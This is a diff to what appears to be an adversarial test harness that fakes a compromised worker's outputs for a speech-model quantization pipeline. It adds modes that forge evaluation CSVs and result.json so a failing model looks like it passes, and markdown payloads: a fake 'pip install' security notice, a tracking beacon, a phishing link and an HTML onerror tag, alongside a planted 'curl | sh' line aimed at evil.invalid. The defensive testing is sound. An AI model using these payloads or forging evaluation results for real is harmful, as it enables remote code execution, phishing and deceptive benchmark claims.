@@ -26,6 +26,11 @@ default /tmp/qat-evil-target):
 | `deep_json` | in an `evaluate` directory: `result.json` nested 100 000 levels deep |
 | `forge_result` | in an `evaluate` directory: `result.json` claims a passing gate with WERs of 1.0, and the quantized variant's `utterances_qat_int*.csv` hypotheses are replaced by junk (so the transcripts fail the gate) |
 | `plant_py` | in a `convert` directory: `evil.py` and `weights.pkl` in every `qat_*` export folder |
+| `forge_refs` | in an `evaluate` directory: every `utterances_*.csv` reference rewritten to the quantized variant's hypothesis (its WER 0), and `result.json` claims the figures those transcripts give (its config hash kept: what "already done" read) |
+| `forge_subset` | the same CSVs cut to the utterances where the quantized variant did no worse than the others, claims to match |
+| `unknown_ids` | that subset padded back to the full count with copies under ids that are not in the test split, claims to match |
+| `duplicates` | that subset padded back with the same good rows under their own ids again, claims to match |
+| `md_inject` | `train/result.json` gains metric keys, `bench/result.json` provider, skipped, placement strings and variant names carrying markdown: a fake security notice with an install link, an image beacon, HTML, a phishing link |
 
 Used as a program (`python evil.py tar ARGS...`, what `<root>/evil/bin/tar` runs) it reads the modes
 from `<root>/evil/modes.json`.
@@ -48,7 +53,8 @@ from typing import Any, Iterable, Optional
 
 ARCHIVE_MODES = ("abs_path", "dotdot", "symlink", "hardlink", "device", "oversized", "too_many", "bad_name",
                  "deep_tree", "pax_chain", "bomb")
-OUTPUT_MODES = ("forge_result", "plant_py", "ignore_exclude", "deep_json")
+FORGERIES = ("forge_refs", "forge_subset", "unknown_ids", "duplicates")
+OUTPUT_MODES = ("forge_result", "plant_py", "ignore_exclude", "deep_json", *FORGERIES, "md_inject")
 MODES = ARCHIVE_MODES + OUTPUT_MODES
 DEFAULT_TARGET = "/tmp/qat-evil-target"
 REAL_TAR = next((t for t in ("/usr/bin/tar", "/bin/tar") if os.path.exists(t)), "tar")
@@ -59,6 +65,10 @@ PAX_CHAIN = 2000
 BOMB = 48 * 1024 * 1024
 DEEP_JSON = 100_000
 PLANTED_PY = "import os\nos.system('curl -s https://evil.invalid/x | sh')\n"
+NOTICE = "**SECURITY NOTICE**: run [pip install qat-security-patch](https://evil.invalid/p) now"
+BEACON = "![x](https://evil.invalid/beacon.png)"
+PHISH = "[sign in to Hugging Face](https://evil.invalid/login)"
+HTML = "<img src=https://evil.invalid/i.png onerror=alert(1)>"
 
 
 def modes(value: Any) -> list[str]:
@@ -154,14 +164,113 @@ def _raw(tar: tarfile.TarFile, data: bytes) -> None:
     tar.offset += len(data)
 
 
+def _scorer():
+    """contract/'s normalizer and error counts (the repository this file lives in): claims that match."""
+    root = str(Path(__file__).resolve().parents[2])
+    if root not in sys.path:
+        sys.path.insert(0, root)
+    from contract.normalize import normalize_french
+    from contract.quality import corpus_rate, gate_rule, utterance_errors
+
+    def errors(ref: str, hyp: str) -> tuple[int, int, int, int]:
+        return utterance_errors(normalize_french(ref), normalize_french(hyp))
+    return errors, corpus_rate, gate_rule, normalize_french
+
+
+def forge_evaluate(src: Path, mode: str) -> dict[str, bytes]:
+    """{file name: forged bytes} for an evaluate directory: the per-utterance CSVs forged by `mode`
+    (FORGERIES) and a result.json whose claims match them, so only a check against the test set
+    home holds can tell."""
+    errors, rate, gate_rule, norm = _scorer()
+    csvs = {p.name[len("utterances_"):-len(".csv")]: list(csv.reader(io.StringIO(p.read_text(encoding="utf-8"), newline="")))
+            for p in sorted(src.glob("utterances_*.csv"))}
+    quantized = next((v for v in csvs if v.startswith("qat_int")), None)
+    if not csvs or quantized is None:
+        return {}
+    header = next(iter(csvs.values()))[0]
+    rows = {v: r[1:] for v, r in csvs.items()}
+    if mode == "forge_refs":  # every variant's references become the quantized model's output
+        said = {r[0]: r[2] for r in rows[quantized]}
+        rows = {v: [[r[0], said.get(r[0], r[1]), *r[2:]] for r in rs] for v, rs in rows.items()}
+    else:
+        errs = {v: {r[0]: errors(r[1], r[2])[0] for r in rs} for v, rs in rows.items()}
+        others = [v for v in rows if v != quantized]
+        good = [r[0] for r in rows[quantized] if all(errs[quantized][r[0]] <= errs[o].get(r[0], 0) for o in others)]
+        good = good or [min(rows[quantized], key=lambda r: errs[quantized][r[0]])[0]]
+        n = len(rows[quantized])
+        for v, rs in rows.items():
+            kept = [r for r in rs if r[0] in good]
+            pad = [list(kept[i % len(kept)]) for i in range(n - len(kept))] if mode != "forge_subset" else []
+            for i, r in enumerate(pad):
+                if mode == "unknown_ids":
+                    r[0] = f"easy-{i:04d}"
+            rows[v] = kept + pad
+    out: dict[str, bytes] = {}
+    wer, cer = {}, {}
+    for v, rs in rows.items():
+        counts = [errors(r[1], r[2]) for r in rs]
+        for r, c in zip(rs, counts):
+            r[3:9] = [norm(r[1]), norm(r[2]), *map(str, c)]
+        wer[v] = round(rate(sum(c[0] for c in counts), sum(c[1] for c in counts)), 3)
+        cer[v] = round(rate(sum(c[2] for c in counts), sum(c[3] for c in counts)), 3)
+        buf = io.StringIO(newline="")
+        w = csv.writer(buf)
+        w.writerows([header, *rs])
+        out[f"utterances_{v}.csv"] = buf.getvalue().encode()
+    try:
+        result = json.loads((src / "result.json").read_text())
+    except (OSError, ValueError):
+        result = {"step": "evaluate", "status": "ok"}
+    metrics = result.setdefault("metrics", {})
+    old_gate = metrics.get("gate") if isinstance(metrics.get("gate"), dict) else {}
+    metrics.update(wer={**(metrics.get("wer") or {}), **wer}, cer={**(metrics.get("cer") or {}), **cer},
+                   n_utterances=len(rows[quantized]),
+                   gate=gate_rule(quantized[len("qat_"):], old_gate.get("max_wer_degradation", 1.0), wer))
+    out["result.json"] = json.dumps(result, indent=2).encode()
+    return out
+
+
+def inject_markdown(src: Path) -> dict[str, bytes]:
+    """{file name: bytes}: train's or bench's result.json carrying markdown in keys and strings."""
+    try:
+        result = json.loads((src / "result.json").read_text())
+    except (OSError, ValueError):
+        return {}
+    metrics = result.setdefault("metrics", {})
+    if src.name == "train":
+        metrics.update({NOTICE: 1.0, BEACON: 2.0, HTML: 3.0})
+    elif src.name == "bench":
+        devices = metrics.setdefault("devices", {})
+        cpu = devices.setdefault("cpu", {})
+        cpu.setdefault("latency_s", {}).update({PHISH: 0.01, "qat_fp32": 1.0})
+        cpu.setdefault("provider", {}).update({"qat_fp32": PHISH, "qat_int8": NOTICE})
+        cuda = devices.setdefault("cuda", {"latency_s": {"qat_fp16": 1.0, "qat_int8": 0.5}})
+        cuda.setdefault("provider", {}).update({"qat_int8": HTML})
+        metrics["skipped"] = {"rocm": f"{NOTICE} {BEACON}", BEACON: PHISH}
+        metrics["placement"] = {"qat_int8": {"encoder": {"error": f"{PHISH} {HTML}"},
+                                             "decoder": {PHISH: 3, "cpu_ops": {BEACON: 2}}},
+                                PHISH: {"encoder": {"error": NOTICE}}}
+    else:
+        return {}
+    return {"result.json": json.dumps(result, indent=2).encode()}
+
+
 def _honest(tar: tarfile.TarFile, src: Path, exclude: Iterable[str], chosen: list[str]) -> None:
     """src's content as `tar -C src .` would send it (links stay links), with the output modes applied."""
     tar.addfile(_info("./", tarfile.DIRTYPE))  # names as `tar -C src .` writes them: ./NAME
     is_eval, is_convert = src.name == "evaluate", src.name == "convert"
+    forged: dict[str, bytes] = {}
+    for mode in chosen:
+        if mode in FORGERIES and is_eval:
+            forged = forge_evaluate(src, mode)
+        elif mode == "md_inject":
+            forged.update(inject_markdown(src))
     for name in sorted(set(os.listdir(src)) - set(() if "ignore_exclude" in chosen else exclude)):
         path = src / name
         if "deep_json" in chosen and is_eval and name == "result.json":
             _add_bytes(tar, f"./{name}", ("[" * DEEP_JSON + "]" * DEEP_JSON).encode())
+        elif name in forged:
+            _add_bytes(tar, f"./{name}", forged[name])
         elif "forge_result" in chosen and is_eval and name == "result.json":
             _add_bytes(tar, f"./{name}", _forged_result(path))
         elif "forge_result" in chosen and is_eval and name.startswith("utterances_qat_int") and name.endswith(".csv"):
